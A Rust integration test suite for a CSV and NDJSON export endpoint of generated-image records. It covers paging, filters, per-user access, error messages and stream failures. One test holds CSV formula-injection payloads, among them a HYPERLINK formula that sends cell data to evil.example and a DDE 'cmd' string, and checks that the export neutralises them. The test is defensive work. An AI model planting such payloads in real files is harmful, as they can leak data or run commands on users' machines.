//! The history as a file: the records of the list, each as it is there, and nothing that a spreadsheet would run.

use futures_util::StreamExt;
use reqwest::{Method, RequestBuilder, Response};
use serde_json::{Map, Value};

use crate::harness::{World, send};

const PATH: &str = "/ai/generated-images/export";

/// Records of the test user, several of each moment, some of the other user and some of nobody.
async fn fill(world: &World, records: usize) {
    let (user, other) = (
        &world.stack.ready().user.id,
        &world.stack.ready().other_user.id,
    );
    let insert = |owner: &str, count: usize| {
        format!(
            "insert into generated_images (user_id, prompt, image_url, style, format, unique_visual_elements, created_at, cost_usd, width)
             select {owner}, 'picture ' || n, 'https://images.example/' || n, (array['oil', null])[1 + n % 2], (array['png', 'jpg'])[1 + n % 2],
                case when n % 3 = 0 then jsonb_build_array('a \"b\"', 'c, d') end, timestamptz '2026-02-02 10:30:00.123456Z' + (n / 7) * interval '1 minute',
                case when n % 5 > 0 then n / 1000.0 end, n
             from generate_series(1, {count}) n;"
        )
    };
    let of_user = insert(&format!("'{user}'::uuid"), records);
    let of_other = insert(&format!("'{other}'::uuid"), 2);
    world
        .rows(&format!("{of_user}{of_other}{}", insert("null", 3)))
        .await;
}

async fn file(request: RequestBuilder) -> (Response, String) {
    let mut response = request.send().await.unwrap();
    let mut bytes = Vec::new();
    while let Some(chunk) = response.chunk().await.unwrap() {
        bytes.extend_from_slice(&chunk);
    }
    assert_eq!(
        response.status(),
        200,
        "{}",
        String::from_utf8_lossy(&bytes)
    );
    (response, String::from_utf8(bytes).unwrap())
}

fn objects(file: &str) -> Vec<Value> {
    assert!(file.is_empty() || file.ends_with('\n'));
    file.lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect()
}

/// Reads CSV as strictly as RFC 4180 writes it: records of cells.
fn cells(file: &str) -> Vec<Vec<String>> {
    let mut records = vec![Vec::new()];
    let mut rest = file;
    while !rest.is_empty() {
        let (cell, after) = if let Some(quoted) = rest.strip_prefix('"') {
            let mut from = 0;
            let end = loop {
                let at = from + quoted[from..].find('"').expect("a quote at the end");
                if !quoted[at + 1..].starts_with('"') {
                    break at;
                }
                from = at + 2;
            };
            (quoted[..end].replace("\"\"", "\""), &quoted[end + 1..])
        } else {
            let end = rest.find([',', '\r']).expect("the end of a record");
            assert!(!rest[..end].contains(['"', '\n']), "{}", &rest[..end]);
            (rest[..end].to_owned(), &rest[end..])
        };
        records.last_mut().unwrap().push(cell);
        rest = if let Some(more) = after.strip_prefix(',') {
            more
        } else {
            records.push(Vec::new());
            after.strip_prefix("\r\n").expect("CRLF after a record")
        };
    }
    assert_eq!(records.pop(), Some(Vec::new()), "no CRLF at the end");
    records
}

/// All pages of the list.
async fn listed(world: &World, query: &str) -> Vec<Value> {
    let (mut images, mut cursor) = (Vec::new(), String::new());
    loop {
        let page = world
            .get(&format!("/ai/generated-images?limit=200&{query}{cursor}"))
            .await;
        assert_eq!(page.status, 200, "{page:#?}");
        images.extend(page.body["images"].as_array().unwrap().clone());
        match page.body["next_cursor"].as_str() {
            Some(next) => cursor = format!("&cursor={next}"),
            None => return images,
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_file_holds_what_the_list_shows() {
    let world = World::start(&[]).await;
    // Pages of 100, then 500; the last is empty where their ends meet.
    for records in [0, 1, 100, 1_437] {
        world.rows("delete from generated_images").await;
        fill(&world, records).await;
        let all = listed(&world, "").await;
        assert_eq!(all.len(), records);
        let (response, text) =
            file(world.user(Method::GET, &format!("{PATH}?format=ndjson"))).await;
        assert_eq!(objects(&text), all);
        assert_eq!(response.headers()["content-type"], "application/x-ndjson");

        let (response, text) = file(world.user(Method::GET, PATH)).await;
        let headers = response.headers();
        assert_eq!(
            headers["content-type"],
            "text/csv; charset=utf-8; header=present"
        );
        assert_eq!(headers["cache-control"], "no-store");
        let name = headers["content-disposition"].to_str().unwrap();
        let today = &jiff::Timestamp::now().to_string()[..7];
        assert!(
            name.starts_with(&format!("attachment; filename=\"generated-images-{today}-")),
            "{name}"
        );
        assert!(name.ends_with(".csv\""), "{name}");
        let exposed = headers["access-control-expose-headers"].to_str().unwrap();
        assert!(exposed.contains("Content-Disposition"), "{exposed}");
        let rows = cells(&text);
        assert_eq!(rows.len(), records + 1);
        for (row, image) in rows[1..].iter().zip(&all) {
            assert_eq!(row.len(), rows[0].len());
            let image = image.as_object().unwrap();
            assert_eq!(image.len(), rows[0].len());
            for (name, cell) in rows[0].iter().zip(row) {
                let expected = match &image[name] {
                    Value::Null => String::new(),
                    Value::String(text) => text.clone(),
                    other => other.to_string(),
                };
                assert_eq!(*cell, expected, "{name}");
            }
        }
    }

    // The list's filters and orders.
    for query in [
        "order=oldest",
        "style=oil",
        "style=oil&order=oldest&from=2026-02-02T11:00:00Z&to=2026-02-02T12:00:00Z",
        "favorite=true",
        "to=2026-02-01",
    ] {
        let (_, text) =
            file(world.user(Method::GET, &format!("{PATH}?format=ndjson&{query}"))).await;
        assert_eq!(objects(&text), listed(&world, query).await, "{query}");
    }
    let (_, text) = file(world.user(
        Method::GET,
        &format!("{PATH}?format=ndjson&image_format=jpg"),
    ))
    .await;
    assert_eq!(objects(&text), listed(&world, "format=jpg").await);

    // All that a search finds, and not only what is ranked of it.
    let (_, text) = file(world.user(Method::GET, &format!("{PATH}?format=ndjson&q=picture"))).await;
    assert_eq!(objects(&text), listed(&world, "").await);
    let (_, text) = file(world.user(Method::GET, &format!("{PATH}?format=ndjson&q=pictrue"))).await;
    assert!(!text.is_empty());
    let query = "q=picture&order=relevance&style=oil";
    let (_, text) = file(world.user(Method::GET, &format!("{PATH}?format=ndjson&{query}"))).await;
    assert_eq!(objects(&text), listed(&world, query).await);

    // The fields in the record's own order in JSON, in the caller's in CSV.
    let fields = format!("{PATH}?fields=width,prompt&style=oil&to=2026-02-02T10:31:00Z");
    let (_, text) = file(world.user(Method::GET, &fields)).await;
    assert!(text.starts_with("width,prompt\r\n"), "{text}");
    assert!(text.contains("\r\n2,picture 2\r\n"), "{text}");
    let (_, text) = file(world.user(Method::GET, &format!("{fields}&format=ndjson"))).await;
    assert!(
        text.contains("{\"prompt\":\"picture 2\",\"width\":2}\n"),
        "{text}"
    );

    let (_, plain) = file(world.user(Method::GET, &format!("{PATH}?bom=false"))).await;
    let (_, with_bom) = file(world.user(Method::GET, &format!("{PATH}?format=csv&bom=true"))).await;
    assert_eq!(with_bom, format!("\u{feff}{plain}"));
    assert!(plain.starts_with("id,user_id,prompt,"), "{}", &plain[..100]);
}

#[tokio::test(flavor = "multi_thread")]
async fn everybody_exports_their_own() {
    let world = World::start(&[]).await;
    fill(&world, 5).await;
    let path = format!("{PATH}?format=ndjson");
    let supabase = world.stack.supabase().unwrap();
    let (secret, anon) = (supabase.secret_key().to_owned(), supabase.anon_key());
    let (user, other) = (
        world.stack.ready().user.id.clone(),
        world.stack.ready().other_user.id.clone(),
    );
    let of_user = format!("{path}&user_id={other}");
    for (request, owners) in [
        (world.user(Method::GET, &path), vec![(Some(&user), 5)]),
        (
            world.other_user(Method::GET, &path),
            vec![(Some(&other), 2)],
        ),
        (world.anonymous(Method::GET, &path), vec![(None, 3)]),
        (world.bearer(Method::GET, &path, &anon), vec![(None, 3)]),
        (
            world.bearer(Method::GET, &path, &secret),
            vec![(Some(&user), 5), (Some(&other), 2), (None, 3)],
        ),
        (
            world.bearer(Method::GET, &of_user, &secret),
            vec![(Some(&other), 2)],
        ),
    ] {
        let records = objects(&file(request).await.1);
        for (owner, count) in &owners {
            let theirs = records
                .iter()
                .filter(|record| record["user_id"].as_str() == owner.map(String::as_str));
            assert_eq!(theirs.count(), *count, "{owners:?}");
        }
        assert_eq!(
            records.len(),
            owners.iter().map(|(_, count)| count).sum::<usize>()
        );
    }
    let none = World::start(&[("ANONYMOUS_HISTORY", "none")]).await;
    send(none.anonymous(Method::GET, PATH))
        .await
        .problem_fields(401);
    let expired = local::supabase::TokenClaims::expired(supabase.user());
    let expired = supabase.token(&expired).unwrap();
    send(world.bearer(Method::GET, PATH, &expired))
        .await
        .problem_fields(401);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_spreadsheet_runs_nothing_of_it() {
    let world = World::start(&[]).await;
    let prompts = [
        "=HYPERLINK(\"https://evil.example?\"&A1,\"a cup\")",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1,2)",
        "\t=1",
        "\r=1",
        "  =1",
        "＝1",
    ];
    let harmless = [
        "a \"cup\", red",
        "two\nlines\r\nand one",
        "1 = 1",
        "'quoted",
        "日本 ☕",
    ];
    let user = &world.stack.ready().user.id;
    for prompt in prompts.iter().chain(&harmless) {
        let literal = prompt.replace('\'', "''");
        world
            .rows(&format!("insert into generated_images (user_id, prompt, style, image_url, unique_visual_elements)
                values ('{user}', '{literal}', '{literal}', 'https://images.example/1', '[\"=1\"]')"))
            .await;
    }
    let (_, text) = file(world.user(Method::GET, &format!("{PATH}?order=oldest"))).await;
    let rows = cells(&text);
    let column = |name: &str| rows[0].iter().position(|column| column == name).unwrap();
    let expected: Vec<String> = prompts
        .iter()
        .map(|prompt| format!("'{prompt}"))
        .chain(harmless.map(str::to_owned))
        .collect();
    for name in ["prompt", "style"] {
        let found: Vec<&String> = rows[1..].iter().map(|row| &row[column(name)]).collect();
        assert_eq!(found, expected.iter().collect::<Vec<_>>(), "{name}");
    }
    assert!(
        rows[1..]
            .iter()
            .all(|row| row[column("unique_visual_elements")] == "[\"=1\"]")
    );
    // JSON is no spreadsheet: there every text is itself.
    let (_, text) =
        file(world.user(Method::GET, &format!("{PATH}?order=oldest&format=ndjson"))).await;
    let found: Vec<Value> = objects(&text)
        .into_iter()
        .map(|record| record["prompt"].clone())
        .collect();
    assert_eq!(
        found,
        prompts
            .iter()
            .chain(&harmless)
            .map(|prompt| Value::from(*prompt))
            .collect::<Vec<_>>()
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_asked_wrongly_is_named() {
    let world = World::start(&[]).await;
    let own = format!("user_id={}", world.stack.ready().user.id);
    for (query, field, words) in [
        ("format=xlsx", "format", "ndjson"),
        ("format=png", "format", "csv"),
        ("image_format=gif", "image_format", "png"),
        ("bom=yes", "bom", "true"),
        ("format=ndjson&bom=true", "bom", "csv"),
        ("limit=5", "limit", "not a known"),
        ("cursor=abc", "cursor", "not a known"),
        ("stile=oil", "stile", "style?"),
        ("from=yesterday", "from", "2026-02-02"),
        ("from=2026-02-03&to=2026-02-01", "from", "later"),
        ("order=best", "order", "newest"),
        ("order=relevance", "order", "search"),
        ("fields=id,promt", "fields", "prompt?"),
        (own.as_str(), "user_id", "service role"),
    ] {
        let answer = world.get(&format!("{PATH}?{query}")).await;
        assert_eq!(answer.problem_fields(400), [field], "{query}");
        let message = answer.body["errors"][0]["message"].as_str().unwrap();
        assert!(message.contains(words), "{query} {message}");
    }
    let post = send(world.user(Method::POST, PATH).body("{}")).await;
    assert!(post.status.is_client_error(), "{post:#?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_front_that_does_not_stream_gets_all_of_it_or_is_told_to_narrow() {
    let world = World::start(&[("RESPONSE_MODE", "buffered")]).await;
    fill(&world, 1_200).await;
    let (response, text) = file(world.user(Method::GET, &format!("{PATH}?format=ndjson"))).await;
    assert_eq!(objects(&text), listed(&world, "").await);
    assert!(
        response.headers()["content-disposition"]
            .to_str()
            .unwrap()
            .contains(".ndjson")
    );

    // 4 MB as they are; too much for a payload, in which each quote is two characters.
    let quotes = "update generated_images set prompt = repeat('\"', 3500)";
    world.rows(quotes).await;
    for format in ["csv", "ndjson"] {
        let answer = world.get(&format!("{PATH}?format={format}")).await;
        assert_eq!(answer.problem_fields(422), [] as [&str; 0], "{format}");
        assert_eq!(answer.body["code"], "answer-too-large");
        assert!(
            answer.body["detail"]
                .as_str()
                .unwrap()
                .contains("from and to")
        );
    }
    let narrow = format!("{PATH}?to=2026-02-02T11:00:00Z");
    let (_, text) = file(world.user(Method::GET, &narrow)).await;
    assert!(cells(&text).len() > 100);
}

#[tokio::test(flavor = "multi_thread")]
async fn an_export_whose_database_goes_breaks_off_and_does_not_look_whole() {
    let mut world = World::start_with_own_server(&[]).await;
    let user = world.stack.ready().user.id.clone();
    // Far more than lies about in buffers between the function and a caller who does not read.
    world
        .rows(&format!("insert into generated_images (user_id, prompt, full_prompt, image_url, created_at)
            select '{user}', repeat('x', 30000), repeat('y', 30000), 'https://images.example/1', now() - n * interval '1 second' from generate_series(1, 2500) n"))
        .await;
    for format in ["csv", "ndjson"] {
        let request = world.user(Method::GET, &format!("{PATH}?format={format}"));
        let response = request.send().await.unwrap();
        assert_eq!(response.status(), 200);
        let mut pieces = response.bytes_stream();
        let mut read = pieces.next().await.unwrap().unwrap().len();
        world.stack.postgres().unwrap().crash().await.unwrap();
        let error = loop {
            match pieces.next().await {
                Some(Ok(piece)) => read += piece.len(),
                Some(Err(error)) => break error,
                None => panic!("{read} bytes looked like the whole file"),
            }
        };
        assert!(
            error.is_body() || error.is_decode() || error.is_request(),
            "{error:?}"
        );
        assert!(read < 2500 * 60_000, "{read}");
        // At the beginning there is still time to say so.
        let refused = world.get(&format!("{PATH}?format={format}")).await;
        refused.problem_fields(503);
        assert!(!refused.headers.contains_key("content-disposition"));
        world.stack.postgres().unwrap().resume().await.unwrap();
    }
    let log = world.function_log("export");
    assert!(log.contains("an answer broke off"), "{log}");
    let (_, text) = file(world.user(Method::GET, &format!("{PATH}?format=ndjson"))).await;
    let records: Vec<Map<String, Value>> = text
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    assert_eq!(records.len(), 2500);
}
